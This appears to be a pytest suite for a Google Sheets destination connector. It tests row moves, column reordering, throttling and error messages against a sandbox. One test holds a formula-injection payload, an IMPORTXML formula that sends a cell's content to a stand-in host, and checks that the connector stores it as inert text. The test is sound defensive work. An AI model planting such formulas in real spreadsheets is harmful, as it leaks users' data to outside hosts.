"""People sort, insert and delete rows while a run writes; and what else of Google Sheets the suite does not ask."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator, Callable, Mapping
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from decimal import Decimal
from typing import Any

import httpx
import pytest

from revetl.destinations.google_sheets import GoogleSheets, Options, connect
from revetl.errors import ConfigError, Denied, Rejected, Throttled
from revetl.model import Change, Operation, Outcome, Scalar, Status
from revetl.sandbox.google_sheets.grid import Formula, SheetGrid
from revetl.sandbox.google_sheets.tokens import key_file
from revetl.sandbox.google_sheets.vendor import NOT_SHARED, SPREADSHEET, GoogleSheetsSandbox
from revetl.sandbox.inprocess import sandbox_in_process
from revetl.sandbox.settings import SandboxSettings
from revetl.testing.clocks import VirtualClock
from revetl.testing.virtual_time import run_virtual
from tests.support.discovery import DiscoveryDocument

BASE = "http://127.0.0.1:1/google_sheets"
ROWS = [["c1", "a@x.example", "Ann"], ["c2", "b@x.example", "Bob"], ["c3", "c@x.example", "Cy"]]

Meanwhile = Callable[[SheetGrid], None]


@dataclass
class Wire(httpx.AsyncBaseTransport):
    """`meanwhile`: what people do in front of each of the next writes, `between` in front of each of the next readings
    of columns. `answers`: what writes are answered in place of
    the sandbox's word; None lets one through. `spoil`: what is done to answers to writes of values."""

    inner: httpx.AsyncBaseTransport
    sheet: SheetGrid
    meanwhile: list[Meanwhile] = field(default_factory=list)
    between: list[Meanwhile] = field(default_factory=list)
    answers: list[httpx.Response | None] = field(default_factory=list)
    spoil: Callable[[dict[str, Any]], None] | None = None
    seen: list[tuple[httpx.Request, httpx.Response]] = field(default_factory=list)

    async def handle_async_request(self, request: httpx.Request) -> httpx.Response:
        await request.aread()
        answer = None
        if request.method == "POST" and "/v4/" in request.url.path:
            if self.meanwhile:
                self.meanwhile.pop(0)(self.sheet)
            answer = self.answers.pop(0) if self.answers else None
        if self.between and request.url.params.get_list("ranges")[1:]:
            self.between.pop(0)(self.sheet)
        answer = answer or await self.inner.handle_async_request(request)
        await answer.aread()
        if self.spoil is not None and request.url.path.endswith("values:batchUpdate"):
            document = answer.json()
            self.spoil(document)
            answer = httpx.Response(200, json=document)
        self.seen.append((request, answer))
        return answer

    @property
    def calls(self) -> list[tuple[str, str]]:
        return [(r.method, r.url.path.rpartition("/")[2]) for r, _ in self.seen if "/v4/" in r.url.path]


@dataclass
class SheetBench:
    sheets: GoogleSheets
    wire: Wire
    vendor: GoogleSheetsSandbox
    clock: VirtualClock

    async def write(self, *changes: Change) -> list[Outcome]:
        return sorted(await self.sheets.write("Customers", "id", changes), key=lambda o: o.ordinal)

    @property
    def rows(self) -> list[list[Any]]:
        """As they stand, without the header."""
        return self.wire.sheet.shown(self.wire.sheet.area("A2:F1000"), "FORMULA")


def on_sheet(work: Callable[[SheetBench], Any], rows: list[list[Any]] | None = None, **options: Any) -> None:
    """`work` with a connector on a sheet that holds `rows`, on virtual time."""

    @asynccontextmanager
    async def opened() -> AsyncIterator[SheetBench]:
        clock = VirtualClock()
        settings = SandboxSettings(vendors={"google_sheets": options.pop("vendor", {})})
        async with sandbox_in_process(settings, clock) as (transport, sandbox):
            vendor = sandbox.vendor(GoogleSheetsSandbox)
            grid = vendor.shared.tab("Customers")
            grid.cells += [list(row) for row in (ROWS if rows is None else rows)]
            wire = Wire(transport, grid)
            given = {
                "spreadsheet_id": SPREADSHEET,
                "base_url": BASE,
                "service_account": json.dumps(key_file(f"{BASE}/token")),
                **options,
            }
            async with connect("sheets", Options.model_validate(given), clock, wire) as sheets:
                yield SheetBench(sheets, wire, vendor, clock)

    async def main() -> None:
        async with opened() as bench:
            # The grid is replaced when a call fails.
            await work(bench)

    run_virtual(main())


def update(ordinal: int, key: str, **fields: Scalar) -> Change:
    return Change(ordinal, key, Operation.UPDATE, key, fields, key)


def create(ordinal: int, key: str, **fields: Scalar) -> Change:
    return Change(ordinal, key, Operation.CREATE, None, {"id": key, **fields}, key)


def delete(ordinal: int, key: str) -> Change:
    return Change(ordinal, key, Operation.DELETE, key, {}, key)


def insert_above(sheet: SheetGrid) -> None:
    sheet.cells.insert(1, [f"new{len(sheet.cells)}", "n@x.example", "Nobody"])


def turn_round(sheet: SheetGrid) -> None:
    sheet.cells[1:] = sheet.cells[:0:-1]


def drop_first(sheet: SheetGrid) -> None:
    del sheet.cells[1]


@pytest.mark.parametrize("moved", [insert_above, turn_round, drop_first], ids=lambda f: f.__name__)
@pytest.mark.parametrize("times", [1, 2])
def test_rows_that_move_in_front_of_a_write_keep_what_they_hold(moved: Meanwhile, times: int) -> None:
    """Each of ours is written, and no other row holds anything else than before."""

    async def work(bench: SheetBench) -> None:
        bench.wire.meanwhile += [moved] * times
        outcomes = await bench.write(update(1, "c2", name="Bobby"), update(2, "c3", email="new@x.example"))
        stands = {row[0]: row[1:] for row in bench.rows}
        before = {row[0]: row[1:] for row in ROWS}
        wanted = {**before, "c2": ["b@x.example", "Bobby"], "c3": ["new@x.example", "Cy"]}
        said = dict(zip(("c2", "c3"), outcomes, strict=True))
        assert "" not in stands, "nothing is left in a row without a key"
        for key in stands.keys() & wanted.keys():
            is_told = key in said and said[key].status is Status.UNKNOWN
            assert stands[key] == wanted[key] or (is_told and stands[key] == before[key])
        assert [o.destination_id for o in outcomes if o.status is Status.OK] == [
            key for key, o in said.items() if o.status is Status.OK
        ]
        told = sum(o.error_code == "ROW_MOVED" for o in outcomes)
        assert sum(row != ["n@x.example", "Nobody"] for key, row in stands.items() if key[:3] == "new") <= told

    on_sheet(work)


def test_a_row_that_was_inserted_and_met_is_told() -> None:
    """Nobody knows what it held: it came after the last look."""

    async def work(bench: SheetBench) -> None:
        bench.wire.meanwhile.append(insert_above)
        [outcome] = await bench.write(update(1, "c1", name="Annie"))
        assert (outcome.status, outcome.error_code) == (Status.UNKNOWN, "ROW_MOVED")
        assert "row 2 " in str(outcome.message)

    on_sheet(work)


def test_rows_that_never_stand_still_are_unknown() -> None:
    async def work(bench: SheetBench) -> None:
        bench.wire.meanwhile += [turn_round] * 99
        [outcome] = await bench.write(update(1, "c1", name="Annie"))
        assert (outcome.status, outcome.error_code) == (Status.UNKNOWN, "ROW_MOVED")
        assert [path for _, path in bench.wire.calls].count("values:batchUpdate") == 5

    on_sheet(work)


def test_what_a_person_wrote_over_ours_stays() -> None:
    """What we wrote into another row is put back, unless somebody wrote there since."""

    async def work(bench: SheetBench) -> None:
        def correct(sheet: SheetGrid) -> None:
            row = next(row for row in sheet.cells if row[0] == "c3")
            assert row[2] == "Annie", "ours was written into the row of c3"
            row[2] = "Cyrus"

        bench.wire.meanwhile.append(turn_round)
        bench.wire.between += [lambda sheet: None, correct]
        assert (await bench.write(update(1, "c1", name="Annie")))[0].status is Status.OK
        assert {row[0]: row[2] for row in bench.rows} == {"c1": "Annie", "c2": "Bob", "c3": "Cyrus"}

    on_sheet(work)


@pytest.mark.parametrize("moves", [False, True])
def test_an_answer_that_shows_no_key_is_checked_by_reading_again(moves: bool) -> None:
    """In case that Google shows only the cells that were written: then a move is told, and can't be put right."""

    def without_key(document: dict[str, Any]) -> None:
        for one in document["responses"]:
            one["updatedData"] = {"range": "Customers!C2:C2", "values": [["Annie"]]}

    async def work(bench: SheetBench) -> None:
        bench.wire.spoil = without_key
        bench.wire.meanwhile += [turn_round] if moves else []
        [outcome] = await bench.write(update(1, "c1", name="Annie"))
        assert (outcome.status, outcome.error_code) == ((Status.UNKNOWN, "ROW_MOVED") if moves else (Status.OK, None))

    on_sheet(work)


def test_a_delete_that_met_another_row_is_unknown() -> None:
    async def work(bench: SheetBench) -> None:
        bench.wire.meanwhile.append(turn_round)
        [outcome] = await bench.write(delete(1, "c1"))
        assert (outcome.status, outcome.error_code) == (Status.UNKNOWN, "ROW_MOVED")
        assert "Version history" in str(outcome.message)

    on_sheet(work)


def test_rows_that_are_deleted_do_not_move_those_that_are_to_go() -> None:
    async def work(bench: SheetBench) -> None:
        outcomes = await bench.write(delete(1, "c1"), delete(2, "c3"), delete(3, "gone"))
        assert [o.status for o in outcomes] == [Status.OK] * 3
        assert bench.rows == [ROWS[1]]

    on_sheet(work)


def test_new_rows_go_below_whatever_stands_there() -> None:
    async def work(bench: SheetBench) -> None:
        def type_below(sheet: SheetGrid) -> None:
            sheet.cells += [[], ["", "", "a person's note"]]

        bench.wire.meanwhile.append(type_below)
        outcomes = await bench.write(create(1, "c9", name="Zoe", score=Decimal("1.50")), create(2, "c8", vip=True))
        assert [o.status for o in outcomes] == [Status.OK] * 2
        assert bench.rows[-4:] == [[], ["", "", "a person's note"], ["c9", "", "Zoe", "", 1.5], ["c8", *[""] * 4, True]]

    on_sheet(work)


def test_columns_are_found_by_their_names_wherever_they_stand() -> None:
    def first_to_last(sheet: SheetGrid) -> None:
        for row in sheet.cells:
            row.extend([None] * (7 - len(row)))
            row.append(row.pop(0))

    async def work(bench: SheetBench) -> None:
        await bench.write(update(1, "c1", name="Annie"))
        first_to_last(bench.wire.sheet)
        [outcome] = await bench.write(update(1, "c1", name="Anna"))
        assert (outcome.status, bench.rows[0][1]) == (Status.OK, "Anna")
        bench.wire.meanwhile.append(first_to_last)
        [outcome] = await bench.write(create(2, "c9", name="Zoe"))
        assert (outcome.status, outcome.error_code) == (Status.UNKNOWN, "COLUMNS_MOVED")

    on_sheet(work, keys={"Customers": "id"})


def test_what_a_formula_would_be_is_text() -> None:
    async def work(bench: SheetBench) -> None:
        evil = '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")'
        outcomes = await bench.write(create(1, "c9", name=evil)) + await bench.write(update(2, "c1", name=evil))
        assert [o.status for o in outcomes] == [Status.OK] * 2
        cells = [value for row in bench.wire.sheet.cells for value in row]
        assert cells.count(evil) == 2
        assert not [value for value in cells if isinstance(value, Formula)]

    on_sheet(work)


def test_refusals_say_what_to_do() -> None:
    async def work(bench: SheetBench) -> None:
        outcomes = await bench.write(
            update(1, "c1", name="x"),
            update(2, "c7", name="x"),
            update(3, "c2", phone="x"),
            update(4, "c3", id="c2"),
            update(5, "c2", name="Robert"),
        )
        assert [o.error_code for o in outcomes] == [
            "DUPLICATE_KEY",
            "NOT_FOUND",
            "UNKNOWN_COLUMN",
            "DUPLICATE_KEY",
            None,
        ]
        assert "rows (2, 5)" in str(outcomes[0].message)
        assert bench.rows[1][2] == "Robert"
        bench.wire.sheet.protected = {2}
        with pytest.raises(Rejected, match="protected cell"):
            await bench.write(update(1, "c2", name="Rob"))
        for tab, says in (("Custmers", "Did you mean 'Customers'"), ("Notes", "holds a name above each column")):
            with pytest.raises(ConfigError) as caught:
                await bench.sheets.describe(tab)
            assert says in str(caught.value)
        with pytest.raises(ConfigError, match=r"keys: \{Customers: email\}"):
            await bench.sheets.look_up("Customers", "email", ["a"], ["name"])

    on_sheet(work, [*ROWS, ["c1", "d@x.example", "Ann again"]])


@pytest.mark.parametrize(
    ("spreadsheet", "says"),
    [(NOT_SHARED, "share the spreadsheet with the client_email"), ("1NowhereNowhere", "no spreadsheet has this")],
)
def test_an_account_that_is_not_let_in_is_told_what_to_do(spreadsheet: str, says: str) -> None:
    async def work(bench: SheetBench) -> None:
        with pytest.raises(Denied, match=says):
            await bench.sheets.check()

    on_sheet(work, spreadsheet_id=spreadsheet)


def test_a_key_that_changes_is_written_and_is_the_new_id() -> None:
    async def work(bench: SheetBench) -> None:
        [outcome] = await bench.write(update(1, "c1", id="c10"))
        assert (outcome.status, outcome.destination_id, bench.rows[0][0]) == (Status.OK, "c10", "c10")
        back = await bench.sheets.read_back("Customers", ["c10", "c1"], ["name", "score", "no such column"])
        assert {id_: dict(match.fields) for id_, match in back.items()} == {"c10": {"name": "Ann", "score": None}}

    on_sheet(work)


def test_a_write_that_is_throttled_is_worked_out_anew() -> None:
    """What it was worked out from is ten seconds old by then: the rows are read again first."""

    async def work(bench: SheetBench) -> None:
        error = {"error": {"code": 429, "status": "RESOURCE_EXHAUSTED", "message": "Quota exceeded"}}
        as_403 = {"error": {"code": 403, "status": "PERMISSION_DENIED", "errors": [{"reason": "rateLimitExceeded"}]}}
        bench.wire.answers += [httpx.Response(429, json=error), httpx.Response(403, json=as_403)]
        bench.wire.meanwhile += [turn_round]
        before = bench.clock.monotonic()
        [outcome] = await bench.write(update(1, "c1", name="Annie"))
        assert outcome.status is Status.OK
        assert {row[0]: row[2] for row in bench.rows} == {"c1": "Annie", "c2": "Bob", "c3": "Cy"}
        assert [path for _, path in bench.wire.calls[-6:]] == ["values:batchGet", "values:batchUpdate"] * 3
        assert bench.clock.monotonic() - before >= 20
        bench.wire.answers += [httpx.Response(429, json=error)] * 99
        with pytest.raises(Throttled):
            await bench.write(update(1, "c1", name="Ann"))

    on_sheet(work)


def test_the_quota_is_kept_without_a_refusal() -> None:
    async def work(bench: SheetBench) -> None:
        for n in range(20):
            assert (await bench.write(create(1, f"n{n}", name="New")))[0].status is Status.OK
        assert all(answer.is_success for _, answer in bench.wire.seen)
        assert bench.clock.monotonic() >= 180

    on_sheet(work, vendor={"requests_per_min": 6}, requests_per_min=6)


def test_all_that_is_sent_and_answered_is_of_the_published_api() -> None:
    """Google's discovery document, as its own client has it."""
    api = DiscoveryDocument("sheets.v4")
    assert api.problems(httpx.Request("POST", f"{BASE}/v4/spreadsheets/x:batchUpdat"), "/google_sheets")
    bad = httpx.Request("POST", f"{BASE}/v4/spreadsheets/x:batchUpdate?nope=1", json={"request": []})
    assert len(api.problems(bad, "/google_sheets")) == 2

    async def work(bench: SheetBench) -> None:
        await bench.sheets.check()
        await bench.sheets.describe("Customers")
        await bench.sheets.look_up("Customers", "id", ["c1"], ["name"])
        await bench.write(create(1, "c9", name="Zoe", score=7, vip=False))
        await bench.write(update(2, "c9", name=None, score=1.5))
        await bench.write(delete(3, "c9"))
        seen = [(r, a) for r, a in bench.wire.seen if "/v4/" in r.url.path]
        assert {path for _, path in bench.wire.calls} >= {"values:batchGet", "values:batchUpdate"}
        assert [p for r, a in seen for p in api.problems(r, "/google_sheets", a)] == []

    on_sheet(work)


def test_no_key_shows_in_what_is_said_of_a_bad_key_file() -> None:
    key: Mapping[str, str] = key_file(f"{BASE}/token")
    for spoilt in (key["private_key"], json.dumps({**key, "client_email": None, "private_key": "secret words"})):
        given = {"spreadsheet_id": SPREADSHEET, "base_url": BASE, "service_account": spoilt}

        async def ask(given: dict[str, Any] = given) -> None:
            async with connect("sheets", Options.model_validate(given), VirtualClock()) as sheets:
                await sheets.check()

        with pytest.raises(ConfigError) as caught:
            run_virtual(ask())
        assert "secret words" not in str(caught.value)
        assert "BEGIN" not in str(caught.value)
